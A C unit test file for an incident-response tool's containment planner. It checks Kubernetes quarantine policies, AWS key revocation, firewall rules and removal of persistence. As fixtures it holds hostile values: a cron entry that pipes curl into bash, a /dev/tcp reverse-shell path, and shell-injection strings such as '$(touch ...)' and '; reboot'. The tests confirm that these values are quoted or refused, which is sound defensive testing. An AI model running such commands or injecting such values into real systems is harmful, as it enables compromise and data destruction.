/* SPDX-License-Identifier: Apache-2.0 */
/*
 * test-contain.c - the containment plan on incidents built by hand (no
 * correlator): phase order, the quarantine NetworkPolicy (loaded as YAML),
 * the Kubernetes, AWS and host commands, persistence removal, and hostile
 * values (quotes, $(...), newlines) that must never reach a command unquoted.
 */
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <unistd.h>

#include <tyto/correlate.h>
#include <tyto/yaml.h>

#include "test.h"

#define ENT(t, v, r) {.type = (t), .value = (v), .role = (r), .internal = -1}

static ssize_t find(const struct ty_action *a, size_t n, int phase, const char *target,
                    const char *cmd)
{
    for (size_t i = 0; i < n; i++) {
        if (phase >= 0 && a[i].phase != phase)
            continue;
        if (target && !strstr(a[i].target, target))
            continue;
        if (cmd && (!a[i].command || !strstr(a[i].command, cmd)))
            continue;
        return (ssize_t)i;
    }
    return -1;
}

static int any_cmd(const struct ty_action *a, size_t n, const char *needle)
{
    for (size_t i = 0; i < n; i++)
        if (a[i].command && strstr(a[i].command, needle))
            return 1;
    return 0;
}

/* Structural checks every plan must pass. */
static void check_plan(const struct ty_action *a, size_t n)
{
    for (size_t i = 0; i < n; i++) {
        CHECK(a[i].target && a[i].action);
        if (i)
            CHECK(a[i].phase >= a[i - 1].phase);
        const char *c = a[i].command;
        if (!c)
            continue;
        /* newlines only inside a quoted heredoc manifest; no other control bytes */
        int heredoc = strstr(c, "<<'TYTO_EOF'\n") && strlen(c) > 9 &&
                      strcmp(c + strlen(c) - 9, "\nTYTO_EOF") == 0;
        for (const unsigned char *s = (const unsigned char *)c; *s; s++)
            if (*s < 0x20 && !(heredoc && *s == '\n'))
                ty_test_fail(__FILE__, __LINE__, "control byte in command: %s", c);
        for (const unsigned char *s = (const unsigned char *)a[i].target; *s; s++)
            CHECK(*s >= 0x20);
        if (a[i].host_local)
            CHECK(strncmp(c, "nft ", 4) == 0 || strstr(c, "cgroup") || strstr(c, "kill -KILL") ||
                  strncmp(c, "docker pause ", 13) == 0 || strstr(c, "/proc/"));
    }
}

struct plan_out {
    struct ty_arena a;
    struct ty_action *act;
    size_t n;
};

/* Plan inc with those persistence artifacts into o (release o->a after) and
 * check what every plan must pass. */
static void plan_of(struct ty_incident *inc, const char **persist, size_t n_persist,
                    struct plan_out *o)
{
    struct ty_err err;
    inc->q[TY_Q_PERSISTENCE].artifacts = persist;
    inc->q[TY_Q_PERSISTENCE].n_artifacts = n_persist;
    ty_arena_init(&o->a, 1 << 16, 0);
    o->act = NULL;
    o->n = 0;
    CHECK_INT(ty_contain_plan(inc, &o->a, &o->act, &o->n, &err), 0);
    check_plan(o->act, o->n);
}

/* The manifest inside "kubectl apply -n NS -f - <<'TYTO_EOF'\n...TYTO_EOF". */
static void check_netpol(const char *cmd, const char *ns_arg)
{
    char head[128];
    snprintf(head, sizeof(head), "kubectl apply -n %s -f - <<'TYTO_EOF'\n", ns_arg);
    CHECK(strstr(cmd, head) != NULL);
    const char *b = strchr(cmd, '\n'), *e = strstr(cmd, "\nTYTO_EOF");
    CHECK(b && e && e > b);
    if (!b || !e || e <= b)
        return;
    CHECK_STR(e, "\nTYTO_EOF");
    struct ty_arena a;
    struct ty_ydocs docs = {0};
    struct ty_err err;
    ty_arena_init(&a, 4096, 0);
    int rc = ty_yaml_parse(b + 1, (size_t)(e + 1 - (b + 1)), &a, &docs, &err);
    CHECK_INT(rc, 0);
    if (rc == 0 && docs.n == 1) {
        const struct ty_ynode *d = docs.doc[0];
        CHECK_STR(ty_ymap_get(d, "apiVersion")->text.p, "networking.k8s.io/v1");
        CHECK_STR(ty_ymap_get(d, "kind")->text.p, "NetworkPolicy");
        const struct ty_ynode *md = ty_ymap_get(d, "metadata");
        CHECK(ty_ymap_get(md, "namespace") == NULL); /* given by -n */
        CHECK_STR(ty_ymap_get(md, "name")->text.p, "tyto-quarantine");
        const struct ty_ynode *spec = ty_ymap_get(d, "spec");
        const struct ty_ynode *lab =
            ty_ymap_get(ty_ymap_get(ty_ymap_get(spec, "podSelector"), "matchLabels"),
                        "tyto/quarantine");
        CHECK(ty_yis(lab, TY_YS_STR)); /* "true", a string: label values are strings */
        CHECK_STR(lab ? lab->text.p : NULL, "true");
        const struct ty_ynode *pt = ty_ymap_get(spec, "policyTypes");
        CHECK(pt && pt->kind == TY_Y_SEQ && pt->n == 2);
        if (pt && pt->n == 2) {
            CHECK_STR(pt->kv[0]->text.p, "Ingress");
            CHECK_STR(pt->kv[1]->text.p, "Egress");
        }
        /* deny-all: no rule lists at all */
        CHECK(!ty_ymap_get(spec, "ingress") && !ty_ymap_get(spec, "egress"));
        CHECK_INT(spec->n, 2);
    } else {
        CHECK_INT(docs.n, 1);
    }
    ty_arena_release(&a);
}

/* What sh makes of a quoted word: run `printf %s WORD`. */
static void check_sh_word(const char *word, const char *want)
{
    char cmd[1024];
    snprintf(cmd, sizeof(cmd), "printf %%s %s", word);
    FILE *f = popen(cmd, "r");
    CHECK(f != NULL);
    if (!f)
        return;
    char got[1024];
    size_t n = fread(got, 1, sizeof(got) - 1, f);
    got[n] = '\0';
    pclose(f);
    CHECK_STR(got, want);
}

static void test_kubernetes_aws(void)
{
    static const char *persist[] = {
        "/var/run/docker.sock", "node-agent", "f3a91c7e2b5d", "/usr/local/bin/node-agent",
        "/var/spool/cron/crontabs/yarn", "*/5 * * * * curl -fsSL http://x/y | bash",
        "ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIOMqqnkVzrm0SdG6UOoqKLsabgH5C9okWi0dh2l9GKJl a@x"};
    static const char *techs[] = {"T1190", "T1610", NULL};
    struct ty_inc_entity ents[] = {
        {.type = TY_ENT_IP, .value = "203.0.113.66", .role = TY_ROLE_ATTACKER, .internal = 0},
        {.type = TY_ENT_IP, .value = "10.0.1.5", .role = TY_ROLE_ATTACKER, .internal = 1},
        ENT(TY_ENT_POD, "blog/wordpress-7d9f8b6c5d-x4k2p", TY_ROLE_VICTIM),
        ENT(TY_ENT_POD, "blog/data-fetcher-6c8d7f9b4-q7w2m", TY_ROLE_PIVOT),
        ENT(TY_ENT_POD, "blog/legit-stuff", TY_ROLE_ARTIFACT),
        ENT(TY_ENT_HOST, "ip-10-0-1-23.ec2.internal", TY_ROLE_VICTIM),
        ENT(TY_ENT_PRINCIPAL, "system:node:ip-10-0-1-23.ec2.internal", TY_ROLE_PIVOT),
        ENT(TY_ENT_SERVICE_ACCOUNT, "system:serviceaccount:blog:data-fetcher", TY_ROLE_PIVOT),
        ENT(TY_ENT_ROLE, "arn:aws:iam::284511937402:role/s3-get-object-role", TY_ROLE_PIVOT),
        ENT(TY_ENT_ACCESS_KEY, "ASIAQ3EGUMBSEXAMPLE1", TY_ROLE_PIVOT),
        ENT(TY_ENT_ACCESS_KEY, "AKIAIOSFODNN7EXAMPLE", TY_ROLE_VICTIM),
        ENT(TY_ENT_INSTANCE, "i-0abc123def4567890", TY_ROLE_VICTIM),
        ENT(TY_ENT_CONTAINER, "f3a91c7e2b5d", TY_ROLE_ARTIFACT),
        ENT(TY_ENT_CONTAINER, "node-agent", TY_ROLE_ARTIFACT),
        ENT(TY_ENT_FILE, "/tmp/x'y", TY_ROLE_ARTIFACT),
        ENT(TY_ENT_FILE, "/etc/passwd", TY_ROLE_ARTIFACT),
        ENT(TY_ENT_BUCKET, "client-records", TY_ROLE_VICTIM),
        ENT(TY_ENT_PRINCIPAL, "www-data", TY_ROLE_VICTIM),
        ENT(TY_ENT_NAMESPACE, "blog", TY_ROLE_VICTIM),
    };
    struct ty_inc_link links[] = {
        {.a_type = TY_ENT_CONTAINER, .a = "f3a91c7e2b5d", .b_type = TY_ENT_HOST,
         .b = "ip-10-0-1-23.ec2.internal", .why = "docker root"},
        {.a_type = TY_ENT_ACCESS_KEY, .a = "ASIAQ3EGUMBSEXAMPLE1", .b_type = TY_ENT_ROLE,
         .b = "arn:aws:iam::284511937402:role/s3-get-object-role", .why = "session issuer"},
    };
    struct ty_incident inc = {.id = 1, .title = "WordPress it's owned\n", .ents = ents,
                              .n_ents = sizeof(ents) / sizeof(ents[0]), .links = links,
                              .n_links = 2, .techniques = techs};
    struct plan_out o;
    plan_of(&inc, persist, sizeof(persist) / sizeof(persist[0]), &o);
    struct ty_action *act = o.act;
    size_t n = o.n;
    CHECK(n > 20);

    /* one NetworkPolicy for the namespace, before the first label */
    ssize_t np = find(act, n, TY_PHASE_CONTAIN, "namespace blog", "kind: NetworkPolicy");
    ssize_t lab = find(act, n, TY_PHASE_CONTAIN, "pod blog/wordpress", "kubectl label pod");
    CHECK(np >= 0 && lab > np);
    if (np >= 0)
        check_netpol(act[np].command, "'blog'");
    int n_np = 0;
    for (size_t i = 0; i < n; i++)
        n_np += act[i].command && strstr(act[i].command, "kind: NetworkPolicy") != NULL;
    CHECK_INT(n_np, 1);
    CHECK(lab >= 0 &&
          strcmp(act[lab].command,
                 "owner=$(kubectl get pod -n 'blog' 'wordpress-7d9f8b6c5d-x4k2p' -o "
                 "jsonpath='{.metadata.ownerReferences[0].kind}/{.metadata.ownerReferences[0]"
                 ".name}') && drop=$(if [ \"$owner\" != / ]; then kubectl get -n 'blog' "
                 "\"$owner\" -o go-template='{{range $k, $v := .spec.selector.matchLabels}}"
                 "{{$k}}- {{end}}'; fi) && kubectl label pod -n 'blog' "
                 "'wordpress-7d9f8b6c5d-x4k2p' tyto/quarantine=true $drop --overwrite") == 0);
    CHECK(find(act, n, TY_PHASE_PRESERVE, "pod blog/wordpress", "-o yaml") >= 0);
    /* the unsafe title (newline) is left out of the annotation */
    CHECK(find(act, n, TY_PHASE_CONTAIN, "pod blog/wordpress",
               "tyto/incident='incident 1' --overwrite") >= 0);
    CHECK(find(act, n, TY_PHASE_RECOVER, "deployment blog/wordpress",
               "rollout restart -n 'blog' deployment/'wordpress'") >= 0);
    CHECK(find(act, n, TY_PHASE_RECOVER, "deployment blog/data-fetcher", NULL) >= 0);
    /* the attacker's pod is deleted, not quarantined */
    CHECK(find(act, n, TY_PHASE_ERADICATE, "pod blog/legit-stuff", "kubectl delete pod") >= 0);
    CHECK(find(act, n, TY_PHASE_CONTAIN, "pod blog/legit-stuff", "kubectl label") < 0);
    /* the node */
    CHECK(find(act, n, TY_PHASE_CONTAIN, "node ip-10-0-1-23",
               "kubectl cordon 'ip-10-0-1-23.ec2.internal'") >= 0);
    CHECK(find(act, n, TY_PHASE_RECOVER, "node ip-10-0-1-23", "kubectl drain") >= 0);
    /* nft for the public attacker address only, host-local */
    ssize_t nft = find(act, n, TY_PHASE_CONTAIN, "address 203.0.113.66", "nft add rule");
    CHECK(nft >= 0 && act[nft].host_local == 1 && act[nft].host == NULL);
    CHECK(nft >= 0 && strstr(act[nft].command, "output ip daddr '203.0.113.66' drop"));
    CHECK(!any_cmd(act, n, "10.0.1.5"));
    CHECK(find(act, n, TY_PHASE_CONTAIN, "nftables", "nft add table inet tyto") >= 0);
    /* AWS */
    CHECK(find(act, n, TY_PHASE_CONTAIN, "access key AKIAIOSFODNN7EXAMPLE",
               "aws iam update-access-key --user-name \"$(aws iam get-access-key-last-used "
               "--access-key-id 'AKIAIOSFODNN7EXAMPLE'") >= 0);
    ssize_t asia = find(act, n, TY_PHASE_CONTAIN, "access key ASIA", NULL);
    CHECK(asia >= 0 && act[asia].command == NULL && strstr(act[asia].action, "s3-get-object"));
    ssize_t rv = find(act, n, TY_PHASE_CONTAIN, "role arn:aws:iam::284511937402:role/s3",
                      "aws iam put-role-policy --role-name 's3-get-object-role' "
                      "--policy-name AWSRevokeOlderSessions");
    CHECK(rv >= 0 && strstr(act[rv].command, "aws:TokenIssueTime") &&
          strstr(act[rv].command, "date -u +%Y-%m-%dT%H:%M:%SZ"));
    CHECK(find(act, n, TY_PHASE_PRESERVE, "instance i-0abc", "aws ec2 create-snapshot") >= 0);
    CHECK(find(act, n, TY_PHASE_CONTAIN, "instance i-0abc",
               "aws ec2 modify-instance-attribute --instance-id 'i-0abc123def4567890' --groups") >=
          0);
    CHECK(find(act, n, TY_PHASE_RECOVER, "service account system:serviceaccount:blog:data",
               "kubectl delete serviceaccount -n 'blog' 'data-fetcher'") >= 0);
    /* persistence */
    CHECK(find(act, n, TY_PHASE_ERADICATE, "container f3a91c7e2b5d on ip-10-0-1-23",
               "docker rm -f 'f3a91c7e2b5d'") >= 0);
    CHECK(find(act, n, TY_PHASE_PRESERVE, "container f3a91c7e2b5d", "docker export") >= 0);
    CHECK(find(act, n, TY_PHASE_ERADICATE, "container node-agent", "docker rm -f 'node-agent'") >=
          0);
    CHECK(find(act, n, TY_PHASE_ERADICATE, NULL, "rm -f -- '/usr/local/bin/node-agent'") >= 0);
    CHECK(find(act, n, TY_PHASE_RECOVER, "file /var/run/docker.sock", NULL) >= 0);
    CHECK(!any_cmd(act, n, "rm -f -- '/var/run/docker.sock'"));
    CHECK(find(act, n, TY_PHASE_ERADICATE, NULL,
               "crontab -u 'yarn' -l | grep -v -F -x -- '*/5 * * * * curl -fsSL http://x/y | "
               "bash' | crontab -u 'yarn' -") >= 0);
    CHECK(find(act, n, TY_PHASE_ERADICATE, "authorized key",
               "sed -i.tyto-bak -e '\\|AAAAC3NzaC1lZDI1NTE5AAAAIOMqqnkVzrm0SdG6UOoqKLsabgH5C9okWi"
               "0dh2l9GKJl|d'") >= 0);
    CHECK(find(act, n, TY_PHASE_ERADICATE, "technique T1610", "docker ps -aq") >= 0);
    /* files: /etc/passwd (a system file the attack read) is left alone; the dropped file goes */
    CHECK(find(act, n, -1, "file /etc/passwd", NULL) < 0); /* read, not left: no action */
    CHECK(!any_cmd(act, n, "rm -f -- '/etc/passwd'"));
    ssize_t rmx = find(act, n, TY_PHASE_ERADICATE, "file /tmp/x'y", "rm -f -- ");
    CHECK(rmx >= 0);
    if (rmx >= 0)
        check_sh_word(act[rmx].command + strlen("rm -f -- "), "/tmp/x'y");
    /* the same input gives the same plan */
    struct ty_action *act2 = NULL;
    size_t n2 = 0;
    struct ty_err err;
    CHECK_INT(ty_contain_plan(&inc, &o.a, &act2, &n2, &err), 0);
    CHECK_INT(n2, n);
    for (size_t i = 0; i < n && i < n2; i++) {
        CHECK_STR(act2[i].target, act[i].target);
        CHECK(!act[i].command == !act2[i].command);
        if (act[i].command && act2[i].command)
            CHECK_STR(act2[i].command, act[i].command);
    }
    ty_arena_release(&o.a);
}

static void test_host(void)
{
    static const char *persist[] = {"/etc/systemd/system/kworker.service", "/etc/passwd",
                                    "/dev/tcp/198.51.100.7/3000"};
    static const char *techs[] = {"T1053.003", NULL};
    struct ty_inc_entity ents[] = {
        {.type = TY_ENT_IP, .value = "198.51.100.7", .role = TY_ROLE_ATTACKER, .internal = 0},
        {.type = TY_ENT_IP, .value = "2001:db8::7", .role = TY_ROLE_ATTACKER, .internal = 0},
        ENT(TY_ENT_PROCESS, "web-1:4242 /dev/shm/kworker", TY_ROLE_VICTIM),
        ENT(TY_ENT_HOST, "web-1", TY_ROLE_VICTIM),
        ENT(TY_ENT_FILE, "/dev/shm/kworker", TY_ROLE_ARTIFACT),
        ENT(TY_ENT_DOMAIN, "pool.example", TY_ROLE_ARTIFACT),
        ENT(TY_ENT_SESSION, "1288", TY_ROLE_VICTIM),
        ENT(TY_ENT_SESSION, "4294967295", TY_ROLE_VICTIM), /* auditd: unset */
    };
    struct ty_incident inc = {.id = 3, .title = "Java RCE", .ents = ents,
                              .n_ents = sizeof(ents) / sizeof(ents[0]), .techniques = techs};
    struct plan_out o;
    plan_of(&inc, persist, 3, &o);
    struct ty_action *act = o.act;
    size_t n = o.n;
    ssize_t pre = find(act, n, TY_PHASE_PRESERVE, "process web-1:4242", "cp /proc/4242/exe");
    ssize_t frz = find(act, n, TY_PHASE_CONTAIN, "process web-1:4242", "cgroup.freeze");
    ssize_t kil = find(act, n, TY_PHASE_CONTAIN, "process web-1:4242", "kill -KILL 4242");
    CHECK(pre >= 0 && frz >= 0 && kil > frz);
    CHECK(pre >= 0 && act[pre].host_local && act[pre].host && !strcmp(act[pre].host, "web-1"));
    CHECK(frz >= 0 && act[frz].host_local && act[frz].host && !strcmp(act[frz].host, "web-1"));
    CHECK(kil >= 0 && strstr(act[kil].command, "in '/dev/shm/kworker'*) kill -KILL 4242"));
    CHECK(find(act, n, TY_PHASE_CONTAIN, "address 2001:db8::7",
               "ip6 daddr '2001:db8::7' drop") >= 0);
    CHECK(find(act, n, TY_PHASE_ERADICATE, NULL, "rm -f -- '/dev/shm/kworker'") >= 0);
    CHECK(find(act, n, TY_PHASE_ERADICATE, "kworker.service",
               "systemctl disable --now 'kworker.service'") >= 0);
    CHECK(!any_cmd(act, n, "rm -f -- '/etc/passwd'"));
    CHECK(!any_cmd(act, n, "/dev/tcp"));
    CHECK(find(act, n, TY_PHASE_ERADICATE, "technique T1053.003", "crontab -u") >= 0);
    CHECK(find(act, n, TY_PHASE_CONTAIN, "domain pool.example", NULL) >= 0);
    CHECK(find(act, n, TY_PHASE_CONTAIN, "login session 1288 on web-1",
               "loginctl terminate-session '1288'") >= 0);
    CHECK(!any_cmd(act, n, "4294967295"));
    /* a plain host (no pods): rebuilt, not cordoned */
    CHECK(!any_cmd(act, n, "kubectl cordon"));
    CHECK(find(act, n, TY_PHASE_RECOVER, "host web-1", NULL) >= 0);
    ty_arena_release(&o.a);
}

static void test_hostile(void)
{
    static const char *persist[] = {"/tmp/a\nb", "/var/www/x.php; reboot", "../../etc/shadow",
                                    "/tmp/$(touch /tmp/tyto-pwned)'\"`\\"};
    struct ty_inc_entity ents[] = {
        ENT(TY_ENT_POD, "blog/x$(reboot)", TY_ROLE_VICTIM),
        ENT(TY_ENT_POD, "a\nb", TY_ROLE_VICTIM),
        ENT(TY_ENT_POD, "orphan-pod", TY_ROLE_VICTIM), /* two namespaces: which is unknown */
        ENT(TY_ENT_NAMESPACE, "blog", TY_ROLE_VICTIM),
        ENT(TY_ENT_NAMESPACE, "shop", TY_ROLE_VICTIM),
        ENT(TY_ENT_PROCESS, "h:12; reboot /bin/sh", TY_ROLE_VICTIM),
        ENT(TY_ENT_ACCESS_KEY, "AKIA'; reboot", TY_ROLE_VICTIM),
        ENT(TY_ENT_ROLE, "arn:aws:iam::1:role/x;reboot", TY_ROLE_VICTIM),
        ENT(TY_ENT_CONTAINER, "-rf /", TY_ROLE_ARTIFACT),
        {.type = TY_ENT_IP, .value = "203.0.113.5; reboot", .role = TY_ROLE_ATTACKER,
         .internal = 0},
        ENT(TY_ENT_HOST, "node-1'; reboot", TY_ROLE_VICTIM),
    };
    struct ty_incident inc = {.id = 2, .ents = ents, .n_ents = sizeof(ents) / sizeof(ents[0])};
    struct plan_out o;
    plan_of(&inc, persist, 4, &o);
    struct ty_action *act = o.act;
    size_t n = o.n;
    /* invalid names become manual actions, never commands */
    CHECK(!any_cmd(act, n, "x$(reboot)"));
    ssize_t m = find(act, n, TY_PHASE_CONTAIN, "pod blog/x$(reboot)", NULL);
    CHECK(m >= 0 && act[m].command == NULL);
    m = find(act, n, TY_PHASE_CONTAIN, "entity a\\x0ab", NULL);
    CHECK(m >= 0 && act[m].command == NULL);
    /* a pod whose namespace the evidence does not say: looked up when the command runs */
    m = find(act, n, TY_PHASE_CONTAIN, "pod orphan-pod", "kubectl label pod");
    const char *lookup = "ns=$(kubectl get pods -A --field-selector metadata.name=orphan-pod "
                         "-o jsonpath='{.items[0].metadata.namespace}') && [ -n \"$ns\" ] && "
                         "owner=$(kubectl get pod -n \"$ns\" 'orphan-pod' ";
    CHECK(m >= 0 && strncmp(act[m].command, lookup, strlen(lookup)) == 0);
    CHECK(m >= 0 && strstr(act[m].command, "kubectl label pod -n \"$ns\" 'orphan-pod' "
                                           "tyto/quarantine=true $drop --overwrite"));
    m = find(act, n, TY_PHASE_CONTAIN, "namespace of pod orphan-pod", "NetworkPolicy");
    CHECK(m >= 0);
    if (m >= 0)
        check_netpol(act[m].command, "\"$ns\"");
    m = find(act, n, TY_PHASE_CONTAIN, "process h:12; reboot", NULL);
    CHECK(m >= 0 && act[m].command == NULL);
    m = find(act, n, TY_PHASE_CONTAIN, "access key AKIA'; reboot", NULL);
    CHECK(m >= 0 && act[m].command == NULL);
    CHECK(!any_cmd(act, n, "x;reboot"));
    CHECK(!any_cmd(act, n, "-rf /"));
    CHECK(!any_cmd(act, n, "203.0.113.5"));
    CHECK(!any_cmd(act, n, "kubectl cordon"));
    m = find(act, n, TY_PHASE_ERADICATE, "artifact /tmp/a\\x0ab", NULL);
    CHECK(m >= 0 && act[m].command == NULL);
    m = find(act, n, TY_PHASE_ERADICATE, "file ../../etc/shadow", NULL);
    CHECK(!any_cmd(act, n, "shadow"));
    /* a hostile path is removed, quoted so sh takes it as one word */
    const char *evil = "/tmp/$(touch /tmp/tyto-pwned)'\"`\\";
    m = find(act, n, TY_PHASE_ERADICATE, "file /tmp/$(touch", "rm -f -- ");
    CHECK(m >= 0);
    if (m >= 0) {
        check_sh_word(act[m].command + strlen("rm -f -- "), evil);
        CHECK(access("/tmp/tyto-pwned", F_OK) != 0);
    }
    /* shell bytes in a path stay inside the quotes */
    m = find(act, n, TY_PHASE_ERADICATE, NULL, "rm -f -- '/var/www/x.php; reboot'");
    CHECK(m >= 0 && strcmp(act[m].command, "rm -f -- '/var/www/x.php; reboot'") == 0);
    ty_arena_release(&o.a);

    /* an empty incident plans nothing and succeeds */
    struct ty_incident empty = {.id = 4};
    plan_of(&empty, NULL, 0, &o);
    CHECK_INT(o.n, 0);
    ty_arena_release(&o.a);
    CHECK_STR(ty_phase_name(TY_PHASE_PRESERVE), "preserve");
    CHECK_STR(ty_phase_name(TY_PHASE_RECOVER), "recovery");
}

/* Shapes the correlator gives real cases: a pod named without its namespace
 * beside kubelet's log folder "ns_pod_uid", URL paths and internal URLs,
 * compromised workloads listed among the persistence artifacts. */
static void test_evidence_shapes(void)
{
    static const char *persist[] = {"/wp-admin/update.php",
                                    "/wp-content/plugins/wp-shell/wp-shell.php",
                                    "8e1f4a7c2b9d", "www-data",
                                    "http://localhost/v1.46/containers/create?name=x",
                                    "wordpress-7d9f8b6c5d-x4k2p"};
    struct ty_inc_entity ents[] = {
        ENT(TY_ENT_POD, "wordpress-7d9f8b6c5d-x4k2p", TY_ROLE_VICTIM),
        ENT(TY_ENT_HOST, "blog_wordpress-7d9f8b6c5d-x4k2p_0f9e8d7c", TY_ROLE_VICTIM),
        ENT(TY_ENT_CONTAINER, "8e1f4a7c2b9d", TY_ROLE_VICTIM),
        ENT(TY_ENT_PRINCIPAL, "www-data", TY_ROLE_VICTIM),
        ENT(TY_ENT_URL, "/wp-admin/update.php", TY_ROLE_ARTIFACT),
        ENT(TY_ENT_URL, "http://localhost/v1.46/containers/create?name=x", TY_ROLE_ARTIFACT),
        ENT(TY_ENT_URL, "http://user@Pool.Example.COM:3333/x", TY_ROLE_ARTIFACT),
        ENT(TY_ENT_DOMAIN, "kubernetes.default.svc", TY_ROLE_ARTIFACT),
        ENT(TY_ENT_DOMAIN, "localhost", TY_ROLE_ARTIFACT),
    };
    struct ty_incident inc = {.id = 5, .ents = ents, .n_ents = sizeof(ents) / sizeof(ents[0])};
    struct plan_out o;
    plan_of(&inc, persist, sizeof(persist) / sizeof(persist[0]), &o);
    struct ty_action *act = o.act;
    size_t n = o.n;
    /* the namespace comes from the log folder; that folder is no host to rebuild */
    CHECK(find(act, n, TY_PHASE_CONTAIN, "pod blog/wordpress-7d9f8b6c5d-x4k2p",
               "kubectl label pod -n 'blog' 'wordpress-7d9f8b6c5d-x4k2p'") >= 0);
    CHECK(find(act, n, -1, "host blog_", NULL) < 0);
    /* a URL path of the application: found, removed only after review */
    ssize_t m = find(act, n, TY_PHASE_ERADICATE, "file /wp-admin/update.php", "find / ");
    CHECK(m >= 0 && !strstr(act[m].command, "rm -f"));
    /* in the only pod, a web shell where attackers add files: removed */
    m = find(act, n, TY_PHASE_ERADICATE, "file /wp-content/plugins/wp-shell/wp-shell.php",
             "kubectl exec -n 'blog' 'wordpress-7d9f8b6c5d-x4k2p' -- sh -c 'find / ");
    CHECK(m >= 0 && strstr(act[m].command, "-exec rm -f -- {} +"));
    /* the compromised workload and account are contained and rebuilt, never "removed" */
    CHECK(!any_cmd(act, n, "docker rm -f '8e1f4a7c2b9d'"));
    CHECK(find(act, n, TY_PHASE_ERADICATE, NULL, "kubectl delete pod") < 0);
    CHECK(find(act, n, TY_PHASE_ERADICATE, "artifact www-data", NULL) < 0);
    CHECK(find(act, n, TY_PHASE_ERADICATE, "artifact http://localhost", NULL) < 0);
    /* names outside the environment are blocked; paths and internal names are not */
    CHECK(find(act, n, TY_PHASE_CONTAIN, "domain pool.example.com", NULL) >= 0);
    CHECK(find(act, n, TY_PHASE_CONTAIN, "domain localhost", NULL) < 0);
    CHECK(find(act, n, TY_PHASE_CONTAIN, "kubernetes.default.svc", NULL) < 0);
    CHECK(find(act, n, TY_PHASE_CONTAIN, "url /wp-admin", NULL) < 0);
    ty_arena_release(&o.a);
}

/* Files known only from the case's evidence (a collected tree): the copies are
 * never touched; the originals are named on their hosts when the layout says. */
static void test_collected_copies(void)
{
    static const char *persist[] = {"/cases/c1/evidence/hosts/api-1/var/spool/cron/crontabs/orders",
                                    "/cases/c1/evidence/hosts/db-1/fs/etc/cron.d/upd",
                                    "/cases/c1/evidence/misc/tmp/x.sh"};
    struct ty_inc_entity ents[] = {
        ENT(TY_ENT_FILE, "/cases/c1/evidence/hosts/api-1/tmp/.x", TY_ROLE_ARTIFACT),
        ENT(TY_ENT_FILE, "/tmp/dropped", TY_ROLE_ARTIFACT),
    };
    struct ty_inc_step steps[] = {
        {.ev = {.file = "/cases/c1/evidence/hosts/api-1/var/log/auth.log"}},
        {.ev = {.file = "/cases/c1/evidence/misc/tmp/x.sh"}},
    };
    struct ty_incident inc = {.id = 6, .ents = ents, .n_ents = 2, .steps = steps, .n_steps = 2};
    struct plan_out o;
    plan_of(&inc, persist, 3, &o);
    struct ty_action *act = o.act;
    size_t n = o.n;
    CHECK(!any_cmd(act, n, "/cases/"));
    CHECK(find(act, n, TY_PHASE_ERADICATE, "file /var/spool/cron/crontabs/orders on api-1",
               "crontab -u 'orders' -r") >= 0);
    CHECK(find(act, n, TY_PHASE_ERADICATE, "file /etc/cron.d/upd on db-1",
               "rm -f -- '/etc/cron.d/upd'") >= 0);
    CHECK(find(act, n, TY_PHASE_ERADICATE, "file /tmp/.x on api-1", "rm -f -- '/tmp/.x'") >= 0);
    ssize_t m = find(act, n, TY_PHASE_ERADICATE, "file /cases/c1/evidence/misc/tmp/x.sh", NULL);
    CHECK(m >= 0 && act[m].command == NULL);
    CHECK(find(act, n, TY_PHASE_ERADICATE, "file /tmp/dropped", "rm -f -- '/tmp/dropped'") >= 0);
    ty_arena_release(&o.a);
}

void test_contain(void);
void test_contain(void)
{
    test_kubernetes_aws();
    test_host();
    test_hostile();
    test_evidence_shapes();
    test_collected_copies();
}
